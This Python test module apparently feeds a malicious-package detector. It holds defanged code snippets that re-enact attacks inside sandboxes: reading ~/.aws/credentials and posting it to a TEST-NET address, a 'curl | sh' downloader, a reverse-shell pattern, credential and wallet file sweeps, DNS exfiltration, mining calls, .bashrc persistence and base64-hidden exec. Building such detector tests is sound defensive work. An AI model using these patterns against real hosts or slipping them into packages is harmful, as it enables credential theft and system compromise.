"""Inert re-enactments of what detectors look for: they act in test boxes only, and harm nothing.

Destinations are loopback and TEST-NET (RFC 5737), which a box's sinkhole answers; payloads are
`true` and `sleep`; files are written and read in the box's own home, which dies with it.
"""

from __future__ import annotations

from tests.corpus.guard import GUARD

__all__ = ["ACTS", "GUARD", "STEALS_A_DECOY", "acting_modules"]

STEALS_A_DECOY = """\
if ACT:
    import urllib.request
    key = (HOME / ".aws/credentials").read_bytes()
    try:
        urllib.request.urlopen("http://203.0.113.7/", data=key, timeout=5).read()
    except OSError:
        pass
"""

ACTS: dict[str, str] = {
    "exec-dropped": """\
if ACT:
    path = pathlib.Path("/tmp/dropped")
    path.write_text("#!/bin/sh\\nexit 0\\n")
    path.chmod(0o755)
    subprocess.run([str(path)])
""",
    "exec-memory": """\
if ACT:
    number = os.memfd_create("nothing")
    os.write(number, pathlib.Path("/bin/true").read_bytes())
    subprocess.run([f"/proc/self/fd/{number}"], pass_fds=[number])
""",
    "exec-shell": """\
if ACT:
    os.system("true; id > /dev/null")
""",
    "reverse-shell": """\
if ACT:
    server = socket.create_server(("127.0.0.1", 0))
    client = socket.create_connection(server.getsockname())
    child = os.fork()
    if child == 0:
        for stream in (0, 1, 2):
            os.dup2(client.fileno(), stream)
        os.execv("/bin/sh", ["sh", "-c", "true"])
    os.waitpid(child, 0)
""",
    "persistence-write": """\
if ACT:
    with (HOME / ".bashrc").open("a") as file:
        file.write("# nothing\\n")
""",
    "agent-config-write": """\
if ACT:
    (HOME / ".claude").mkdir(exist_ok=True)
    (HOME / ".claude/settings.json").write_text("{}")
""",
    "escape-attempt": """\
if ACT:
    import ctypes
    ctypes.CDLL(None).mount(b"none", b"/tmp", b"tmpfs", 0, None)
""",
    "process-injection": """\
if ACT:
    import ctypes
    ctypes.CDLL(None).ptrace(0, 0, 0, 0)
""",
    "own-files-deleted": """\
if ACT:
    (pathlib.Path(__file__).parent / "spare.txt").unlink()
""",
    "network-listen": """\
if ACT:
    listener = socket.create_server(("0.0.0.0", 4444))
""",
    "decoys-collected": """\
if ACT:
    for name in (".aws/credentials", ".ssh/id_ed25519", ".npmrc"):
        (HOME / name).read_bytes()
""",
    "dns-exfiltration": """\
if ACT:
    try:
        socket.gethostbyname("61" * 25 + ".reenact.test")
    except OSError:
        pass
""",
    "exec-downloaded": """\
if ACT:
    with socket.create_connection(("203.0.113.7", 80), timeout=5) as connection:
        connection.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n")
        connection.recv(1)
    path = pathlib.Path("/tmp/fetched")
    path.write_text("#!/bin/sh\\nexit 0\\n")
    path.chmod(0o755)
    subprocess.run([str(path)])
""",
    "process-outlived": """\
if ACT and os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv("/bin/sleep", ["sleep", "60"])
    os._exit(0)
""",
    "mining": """\
if ACT:
    with socket.create_connection(("203.0.113.9", 3333), timeout=5) as connection:
        connection.sendall(b'{"id": 1, "method": "mining.subscribe", "params": []}\\n')
""",
    "dga-burst": """\
if ACT:
    for number in range(12):
        try:
            socket.gethostbyname(f"xq{number}k7w{number}zv3b.invalid")
        except OSError:
            pass
""",
    "network-scan": """\
if ACT:
    for number in range(30):
        with socket.socket() as probe:
            probe.connect_ex(("127.0.0.1", 20000 + number))
""",
    "sandbox-probing": """\
if ACT:
    for name in ("/sys/class/dmi/id/product_name", "/.dockerenv", "/sys/class/net/eth0/address"):
        try:
            open(name).close()
        except OSError:
            pass
""",
    "environment-dump": """\
if ACT:
    pathlib.Path("/proc/self/environ").read_bytes()
""",
    "worm-publish": """\
if ACT:
    try:
        subprocess.run(["twine", "upload", "nothing"])
    except OSError:
        pass
""",
    "foreign-runtime": """\
if ACT:
    path = HOME / "bun"
    path.write_bytes(pathlib.Path("/bin/true").read_bytes())
    path.chmod(0o755)
    subprocess.run([str(path)])
""",
    "exec-downloader": """\
if ACT:
    os.system("true || curl -s http://203.0.113.7/ | sh")
""",
    "mass-file-change": """\
if ACT:
    for name in (".npmrc", ".netrc", ".pypirc", ".git-credentials"):
        with (HOME / name).open("r+b") as file:
            file.write(b"locked")
""",
    "exec-hidden": """\
if ACT:
    subprocess.run(["/env/bin/python", "-c", "import base64;exec(base64.b64decode('cGFzcw=='))"])
""",
    "others-files-changed": """\
if ACT:
    try:
        (pathlib.Path(os.__file__).parent / "antigravity.py").open("a").close()
    except OSError:
        pass
""",
    "secrets-searched": """\
if ACT:
    for name in (".mozilla/firefox", ".config/Exodus", ".config/discord", ".bash_history"):
        (HOME / name).exists()
""",
    "decoy-written": """\
if ACT:
    with (HOME / ".npmrc").open("a") as file:
        file.write("# nothing\\n")
""",
}
"""Detector → the module that re-enacts what it looks for."""


def acting_modules(package: str) -> dict[str, str]:
    """A package whose submodules each re-enact one thing, in the order of ACTS."""
    files = {f"{package}/__init__.py": "", f"{package}/spare.txt": "spare"}
    for number, (name, text) in enumerate(ACTS.items()):
        files[f"{package}/m{number:02}_{name.replace('-', '_')}.py"] = GUARD + text
    return files
